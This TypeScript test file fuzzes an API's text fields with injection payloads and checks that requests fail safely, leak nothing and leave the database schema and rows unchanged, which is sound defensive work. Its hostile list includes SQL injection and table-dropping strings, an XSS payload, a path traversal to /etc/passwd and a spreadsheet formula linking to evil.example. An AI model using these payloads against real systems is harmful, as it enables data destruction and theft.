// Statements, wildcards, templates and paths in every text field of every operation: no fault, no wider answer, nothing of the schema changed.
import { expect, test } from 'vitest';
import type { z } from 'zod';
import { accessRows, humanRoles } from './access-guide.ts';
import { defOf, smallestInput } from './access-input.fixtures.ts';
import { sendTo } from './access-request.fixtures.ts';
import { aWorld } from './access-world.fixtures.ts';
import { newId, openTestApp } from './app.fixtures.ts';
import { contract } from './contract.ts';

const app = await openTestApp();
const world = await aWorld(app);
const rows = accessRows(contract);

/** A statement that ran would leave its mark; a template that was filled in, 1787569. */
const hostile = [
  "'; create table canary (n int); --",
  "'); drop table person cascade; --",
  "' or '1'='1",
  "' union select name from person --",
  '$1; create table canary (n int)',
  '%',
  '_',
  '\\',
  '{{1337*1337}}#{1337*1337}<%= 1337*1337 %>',
  '=HYPERLINK("http://evil.example/"&A1)',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '{"$gt":""}',
  '甲'.repeat(20_000),
];

type Path = readonly (string | number)[];

/** Every field of text below `schema`, optional ones too. Ids and enums are text as well to whoever sends them. */
const textFields = (schema: z.ZodType | undefined, path: Path = []): Path[] => {
  if (!schema) return [];
  const def = defOf(schema);
  if (def.type === 'object')
    return Object.entries(def.shape ?? {}).flatMap(([name, one]) => textFields(one, [...path, name]));
  if (def.type === 'array') return textFields(def.element, [...path, 0]);
  if (def.type === 'union') return (def.options ?? []).flatMap((one) => textFields(one, path));
  if (def.type === 'pipe') return textFields(defOf(def.in as z.ZodType).type === 'transform' ? def.out : def.in, path);
  if (def.innerType) return textFields(def.innerType, path);
  return ['string', 'enum', 'literal'].includes(def.type) && path.length > 0 ? [path] : [];
};

const withText = (value: unknown, [key, ...rest]: Path, text: string): unknown => {
  if (key === undefined) return text;
  if (typeof key === 'number') return [withText((value as unknown[] | undefined)?.[0], rest, text)];
  return { ...(value as object | undefined), [key]: withText((value as Record<string, unknown>)?.[key], rest, text) };
};

const schemaNow = async () => {
  const { rows: columns } = await app.admin.query(
    `select table_name, column_name, data_type from information_schema.columns where table_schema = 'public'
     union all select proname, pg_get_function_identity_arguments(oid), 'function' from pg_proc where pronamespace = 'public'::regnamespace
     union all select tablename, policyname, coalesce(qual, '') from pg_policies order by 1, 2, 3`,
  );
  return columns;
};
const personsNow = async () =>
  (await app.admin.query('select county, count(*)::int as n from person group by 1 order by 1')).rows;

/** What would widen an answer, for who is not to see the persons. */
const widening = new Set(hostile.slice(1, 6));

const innards = /node_modules|\n\s+at |violates|syntax error|unterminated|kangtu_app|1787569/i;
const canaries = [world.served, world.sent];

const inputOf = (row: (typeof rows)[number]) =>
  smallestInput(row.operation['~orpc'].inputSchema as z.ZodType, world.known, { id: newId }).input;
const roleOf = ({ meta }: (typeof rows)[number]) =>
  (Array.isArray(meta.roles) ? meta.roles[0] : 'civilAffairs') ?? 'public';

const before = { schema: await schemaNow(), persons: await personsNow() };

test('a search for a wildcard finds no more than a word that stands nowhere', async () => {
  const searching = rows.filter(({ operation, method }) => {
    const fields = textFields(operation['~orpc'].inputSchema as z.ZodType);
    return method === 'GET' && fields.some(([name]) => name === 'search');
  });
  expect(searching.length).toBeGreaterThan(5);
  const wide: string[] = [];
  let found = 0;
  for (const row of searching)
    for (const role of humanRoles.filter((one) => row.meta.roles === 'signedIn' || row.meta.roles.includes(one))) {
      const ask = async (search: string) => {
        const input = { ...(inputOf(row) as object), search };
        const { status, text } = await sendTo(app, { row, actor: world.actorAt(role, 'own'), input });
        return status === 200 ? ((JSON.parse(text) as { rows?: unknown[] }).rows?.length ?? 0) : 0;
      };
      // Some lists take a search as every list does, and have nothing to search in.
      const nowhere = await ask('绝无此词');
      if (nowhere < (await ask(''))) found += 1;
      for (const sign of ['%', '_', '\\', '%%%', "' or 1=1 --"])
        if ((await ask(sign)) > nowhere) wide.push(`${row.meta.name} as ${role} for ${sign}`);
    }
  expect(found).toBeGreaterThan(5);
  expect(wide).toEqual([]);
});

let sent = 0;
test.each(rows.map((row) => [row.meta.name, row] as const))(
  '%s takes or refuses them in each of its texts',
  async (_, row) => {
    for (const path of textFields(row.operation['~orpc'].inputSchema as z.ZodType))
      for (const text of hostile)
        for (const place of ['own', 'otherCity'] as const) {
          if (place === 'otherCity' && !widening.has(text)) continue;
          // What is sent in an address has a limit of its own.
          if (row.method === 'GET' && text.length > 5000) continue;
          app.faults.length = 0;
          const input = withText(inputOf(row), path, text) as Record<string, unknown>;
          const actor = world.actorAt(roleOf(row), place);
          const answer = await sendTo(app, { row, actor, input });
          sent += 1;
          const where = `${row.meta.name} ${path.join('.')} = ${text.slice(0, 40)}`;
          if (answer.status >= 500) throw app.faults.at(-1) ?? new Error(`${where}: ${answer.text}`);
          if (answer.status >= 400) expect(answer.text, where).not.toMatch(innards);
          if (place === 'otherCity')
            for (const told of canaries.flatMap(({ texts }) => texts))
              expect(answer.text, where).not.toContain(told.text);
        }
  },
);

test('afterwards the schema is what it was, and so are the persons of every county that nobody wrote to', async () => {
  expect(sent).toBeGreaterThan(rows.length * hostile.length);
  expect(await schemaNow()).toEqual(before.schema);
  const now = await personsNow();
  for (const { county, n } of before.persons)
    expect(now.find((one) => one.county === county)?.n, county).toBeGreaterThanOrEqual(n);
  console.log(`${sent} requests`);
});
